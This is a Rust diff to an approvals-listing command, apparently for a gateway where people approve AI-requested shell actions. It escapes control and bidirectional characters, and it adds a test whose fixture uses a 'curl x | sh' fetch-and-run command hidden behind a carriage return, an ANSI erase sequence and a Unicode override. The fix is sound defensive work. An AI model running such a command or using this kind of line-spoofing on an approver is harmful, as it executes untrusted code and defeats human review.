@@ -3,10 +3,16 @@
 //! `--always`: with a standing rule); `approvals approve --all-from
 //! CONVERSATION` and `approvals deny --all` for a whole queue; `approvals
 //! rules` and `approvals rules revoke ID` for the standing rules.
+//!
+//! Every value in a listing is printed with its control, bidirectional and
+//! invisible characters as escapes ([`visible::line`]): a command's escape
+//! sequence or carriage return cannot redraw the line a person approves
+//! from, nor an override reorder it.
 
 use std::io::IsTerminal;
 use std::process::ExitCode;
 
+use passepartout_gateway::visible;
 use passepartout_socket::ClientError;
 use serde_json::Value;
 
@@ -134,12 +140,12 @@ pub fn render_rules(listing: &Value) -> String {
     }
     let mut out = String::new();
     for rule in rules {
-        let text = |key: &str| rule[key].as_str().unwrap_or_default().to_owned();
+        let text = |key: &str| shown(rule[key].as_str().unwrap_or_default());
         // `made_by` says "from the web" for the owner's answers there; a
         // daemon from before it gives only who.
         let made = match (rule["made_by"].as_str(), rule["by_shown"].as_str()) {
-            (Some(made), _) => made.to_owned(),
-            (None, Some(shown)) => format!("by {shown}"),
+            (Some(made), _) => shown(made),
+            (None, Some(by)) => format!("by {}", shown(by)),
             (None, None) => format!("by {}", text("by")),
         };
         out.push_str(&format!(
@@ -165,7 +171,7 @@ pub fn render(listing: &Value, all: bool) -> String {
         });
     }
     for approval in approvals {
-        let text = |key: &str| approval[key].as_str().unwrap_or_default().to_owned();
+        let text = |key: &str| shown(approval[key].as_str().unwrap_or_default());
         let status = text("status");
         let when = if status == "pending" {
             format!(
@@ -174,13 +180,13 @@ pub fn render(listing: &Value, all: bool) -> String {
             )
         } else {
             let decision = &approval["decision"];
-            let how = decision["how"].as_str().unwrap_or_default();
             // `by_shown` names the person (or the terminal); a daemon from
             // before it gives only the id.
+            let how = shown(decision["how"].as_str().unwrap_or_default());
             match (decision["by_shown"].as_str(), decision["by"].as_str()) {
-                (Some(shown), _) => format!("{shown} ({how})"),
-                (None, Some(by)) => format!("by {by} ({how})"),
-                (None, None) => how.to_owned(),
+                (Some(by), _) => format!("{} ({how})", shown(by)),
+                (None, Some(by)) => format!("by {} ({how})", shown(by)),
+                (None, None) => how,
             }
         };
         out.push_str(&format!(
@@ -191,10 +197,10 @@ pub fn render(listing: &Value, all: bool) -> String {
             // A daemon from before names gives only the id.
             approval["requester_shown"]
                 .as_str()
-                .map_or_else(|| text("requester"), str::to_owned),
+                .map_or_else(|| text("requester"), shown),
         ));
         if let Some(votes) = approval["votes"].as_str() {
-            out.push_str(&format!("    models: {votes}\n"));
+            out.push_str(&format!("    models: {}\n", shown(votes)));
         }
     }
     if let Some(audit) = listing["audit"].as_array() {
@@ -203,11 +209,17 @@ pub fn render(listing: &Value, all: bool) -> String {
             out.push_str(&format!(
                 "{}  {}\n",
                 timestamp(event["at_ms"].as_u64().unwrap_or_default()),
-                event["event"].as_str().unwrap_or_default()
+                shown(event["event"].as_str().unwrap_or_default())
             ));
         }
     }
     out
+}
+
+/// `text` as printed on a line of a listing: nothing in it acts on the
+/// terminal, reorders the line or hides.
+fn shown(text: &str) -> String {
+    visible::line(text).into_owned()
 }
 
 fn seconds(s: u64) -> String {
@@ -244,5 +256,27 @@ mod tests {
             "{shown}"
         );
         assert_eq!(shown.matches("models:").count(), 1, "{shown}");
+    }
+
+    #[test]
+    fn nothing_in_a_listing_acts_on_the_terminal_or_reorders_it() {
+        let listing = json!({"approvals": [{
+            "token": "K7PX2QMD", "status": "pending", "action": "shell: curl x | sh\r\u{1b}[2Kls -la \u{202e}",
+            "expires_in_s": 60, "conversation": "socket:\u{2066}c", "requester_shown": "1\u{9b}",
+            "votes": "no\u{200f}",
+        }], "audit": [{"at_ms": 0, "event": "ran `shell: \u{1b}]0;x\u{7}`"}]});
+        let shown = super::render(&listing, true);
+        assert!(
+            shown.contains("K7PX2QMD  pending  shell: curl x | sh\\r\\x1b[2Kls -la \\u{202e}\n"),
+            "{shown}"
+        );
+        for part in [
+            "in socket:\\u{2066}c, asked by 1\\u{9b};",
+            "models: no\\u{200f}\n",
+            "ran `shell: \\x1b]0;x\\x07`",
+        ] {
+            assert!(shown.contains(part), "{part} missing from {shown}");
+        }
+        assert!(!shown.contains(['\r', '\u{1b}', '\u{202e}', '\u{2066}', '\u{9b}', '\u{200f}', '\u{7}']));
     }
 }
